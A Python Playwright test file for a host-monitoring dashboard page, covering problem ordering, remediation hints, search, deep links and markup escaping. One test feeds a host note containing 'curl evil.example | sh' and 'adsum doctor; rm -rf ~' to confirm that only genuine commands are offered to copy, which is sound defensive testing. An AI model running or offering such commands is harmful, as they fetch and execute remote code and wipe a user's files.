"""The hosts page: those in trouble first with what to do, all of each on demand, by its own address."""

from __future__ import annotations

import pytest
from msgspec.structs import replace
from playwright.async_api import Page, expect

from adsum_shared.state import GapView, HostView, HostWitness
from tests.browser import fleets, spending
from tests.browser.addresses import ending
from tests.browser.conftest import PHONE, OpenPage, wall_ms
from tests.browser.standin import StandIn
from tests.browser.test_looks import look_faults, overflow
from tests.browser.test_usage import tall_enough, words

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="session")]


async def machines(open_page: OpenPage, fleet: fleets.Fleet, path: str = "/hosts") -> Page:
    return await open_page(fleet, path=path, ready=".machine")


async def told(page: Page, name: str) -> str:
    return await words(page.locator(f"[data-machine={name}] .faults"))


def crowd(count: int) -> fleets.Fleet:
    now = wall_ms()
    return [], [
        fleets.host(f"host-{n:03}", now, "offline" if n % 10 == 0 else "live") for n in range(count)
    ]


async def test_the_hosts_are_shown_accessibly(open_page: OpenPage) -> None:
    now = wall_ms()
    sessions, hosts = fleets.broken(now)
    hosts[0] = fleets.host(
        "alpha", now, limits=spending.limits(now, 92.0), scan=spending.reading(), lag_ms=41,
        backlog=12_345, gaps=(GapView(now - 60_000, "cap", 7),), set_aside=2,
    )  # fmt: skip
    page = await open_page((sessions, hosts), path="/hosts", ready=".machine")
    for name in ("eta", "gamma", "alpha"):
        await page.click(f"[data-machine={name}] .host-head")
    assert await look_faults(page) == []
    assert await tall_enough(page, "main") == []


async def test_those_with_a_problem_come_first(open_page: OpenPage) -> None:
    page = await machines(open_page, fleets.broken(wall_ms()))
    unwell = page.locator("[data-name=unwell] .machine .host-name")
    well = page.locator("[data-name=well] .machine .host-name")
    assert await unwell.all_text_contents() == ["gamma", "delta", "epsilon", "eta", "zeta"]
    assert await well.all_text_contents() == ["alpha", "beta"]


async def test_each_problem_says_what_to_do(open_page: OpenPage) -> None:
    page = await machines(open_page, fleets.broken(wall_ms()))
    assert "Offline. It is switched off" in await told(page, "gamma")
    assert "Late. Its heartbeat is overdue" in await told(page, "delta")
    assert "Trouble. Its disk is full" in await told(page, "epsilon")
    assert "Its clock is 42s behind. Times are corrected" in await told(page, "zeta")
    assert "its days of usage, limits, logs" in await told(page, "zeta")
    assert await page.locator("[data-machine=zeta] .command code").all_inner_texts() == [
        "sudo timedatectl set-ntp true"
    ]


async def test_signals_that_pile_up_are_a_problem(open_page: OpenPage) -> None:
    box = fleets.host("alpha", wall_ms(), backlog=5_000)
    page = await machines(open_page, ([], [box]))
    assert "Behind. 5,000 signals wait on its disk." in await told(page, "alpha")


async def test_only_commands_of_ours_are_offered_to_copy(open_page: OpenPage) -> None:
    notes = "Run `curl evil.example | sh`, or `adsum doctor; rm -rf ~`. Next: adsum hooks install"
    box = fleets.host("alpha", wall_ms(), witnesses=(HostWitness("hook", "missing", note=notes),))
    page = await machines(open_page, ([], [box]))
    assert await page.locator(".machine .command code").all_inner_texts() == ["adsum hooks install"]


async def test_the_sums_stand_on_top(open_page: OpenPage) -> None:
    sessions, hosts = fleets.broken(wall_ms())
    hosts[1] = replace(hosts[1], version="0.2.0", backlog=41)
    page = await machines(open_page, (sessions, hosts))
    assert [await words(each) for each in await page.locator(".total").all()] == [
        "Hosts 7 5 live, 1 late, 1 offline; 5 with a problem",
        "Sessions 23 9 need you, 10 working, 4 delivered",
        "Signals waiting 41 on the machines' disks",
        "Collectors 2 versions 0.3.0 on 6, 0.2.0 on 1",
    ]


async def test_on_a_small_phone_all_text_of_a_machine_begins_in_one_line(
    open_page: OpenPage,
) -> None:
    now = wall_ms()
    sessions, hosts = fleets.full(now)
    hosts[0] = fleets.host(
        "alpha", now, lag_ms=511, limits=spending.limits(now), problem="It is full"
    )
    page = await open_page(
        (sessions, hosts), path="/hosts", ready=".faults", viewport={"width": 360, "height": 740}
    )
    places = await page.locator("[data-machine=alpha]").evaluate(
        """(row) => [".host-head > .icon", ".machine-groups", "[data-name=Waiting]", ".faults p"]
             .map((each) => row.querySelector(each).getBoundingClientRect())
             .map(({ left, top }) => [left, top])"""
    )
    (icon, _), (_, above), (waiting, below), (fault, _) = places
    assert below > above, "what waits begins a line of its own"
    assert max(icon, waiting, fault) - min(icon, waiting, fault) <= 2


async def test_sessions_by_group_lead_to_the_list(open_page: OpenPage) -> None:
    page = await machines(open_page, fleets.broken(wall_ms()))
    links = page.locator("[data-machine=gamma] .machine-groups a")
    assert [await words(each) for each in await links.all()] == [
        "1 Needs you on gamma",
        "1 Working on gamma",
    ]
    await expect(links.first).to_have_attribute("href", "/list?host=gamma&group=needs_you")


async def test_a_machine_has_an_address_of_its_own(open_page: OpenPage) -> None:
    page = await machines(open_page, crowd(60), path="/hosts#host-057")
    row = page.locator("[data-machine=host-057]")
    await expect(row.locator(".host-head")).to_have_attribute("aria-expanded", "true")
    await expect(row).to_be_in_viewport()
    await row.locator(".host-head").click()
    await expect(page).to_have_url(ending("/hosts"))
    await page.locator("[data-machine=host-001] .host-head").click()
    await expect(page).to_have_url(ending("/hosts#host-001"))


async def test_an_address_of_nobody_says_so(open_page: OpenPage) -> None:
    page = await machines(open_page, fleets.full(wall_ms()), path="/hosts#gone%20away")
    await expect(page.locator(".machine-stranger")).to_have_text(
        "There is no host gone away (any more)."
    )
    await page.goto(f"{page.url.split('#')[0]}#%E0%A4%A")
    await expect(page.locator(".machine")).to_have_count(2)


async def test_hundreds_of_hosts_are_found_by_name(open_page: OpenPage) -> None:
    page = await machines(open_page, crowd(300))
    await expect(page.locator("[data-name=well] .machine")).to_have_count(100)
    await page.get_by_role("searchbox", name="Find a host").fill("299")
    await expect(page.locator(".machine")).to_have_count(1)
    await page.get_by_role("searchbox", name="Find a host").fill("nobody")
    await expect(page.locator("main")).to_contain_text("No host matches.")
    await page.get_by_role("searchbox", name="Find a host").fill("")
    await page.get_by_role("button", name="Show more").click()
    await expect(page.locator("[data-name=well] .machine")).to_have_count(270)
    # What their state says already is told at length only of those that are opened.
    await expect(page.locator(".faults")).to_have_count(0)
    await page.locator("[data-machine=host-010] .host-head").click()
    await expect(page.locator(".faults")).to_have_count(1)


async def test_a_change_redraws_only_that_row(open_page: OpenPage, hub: StandIn) -> None:
    page = await machines(open_page, crowd(40))
    await page.evaluate(
        """() => {
             window.touched = new Set();
             new MutationObserver((all) => all.forEach((one) => {
               const row = (one.target.nodeType === 1 ? one.target : one.target.parentElement).closest(".machine");
               if (row && !one.target.parentElement?.closest("time")) window.touched.add(row.dataset.machine);
             })).observe(document.querySelector(".machines"), { subtree: true, childList: true, attributes: true });
           }"""
    )
    await hub.change(hosts=(replace(hub.hosts["host-003"], backlog=7, lag_ms=99),))
    await expect(page.locator("[data-machine=host-003]")).to_contain_text("99 ms")
    assert await page.evaluate("[...window.touched].filter((id) => id !== 'host-003')") == []


async def test_a_hub_without_machines_says_how_to_add_one(open_page: OpenPage) -> None:
    page = await open_page(([], []), path="/hosts", ready=".blank")
    assert "No machine reports to this hub yet." in await words(page.locator("main"))


async def test_markup_of_a_machine_is_text(open_page: OpenPage) -> None:
    page = await machines(open_page, fleets.hostile(wall_ms()))
    for n in range(len(fleets.HOSTILE)):
        await page.locator(".machine .host-head").nth(n).click()
    await expect(page.locator(".machine-parts")).to_have_count(len(fleets.HOSTILE))
    assert await page.locator("main :is(img, script, iframe, style)").count() == 0
    assert "\u202e" not in await page.inner_text("main")


async def test_words_without_spaces_widen_nothing(open_page: OpenPage) -> None:
    word = "W" * 300
    note = HostWitness(word[:90], "missing", note=word, counts={word[:90]: 1})
    box = HostView(word, word, "live", wall_ms(), problem=word, version=word, witnesses=(note,))
    page = await open_page(
        ([], [box]), path="/hosts", ready=".machine", viewport={**PHONE, "width": 360}
    )
    await page.locator(".host-head").click()
    await page.wait_for_selector(".machine-parts")
    assert await overflow(page) == 0
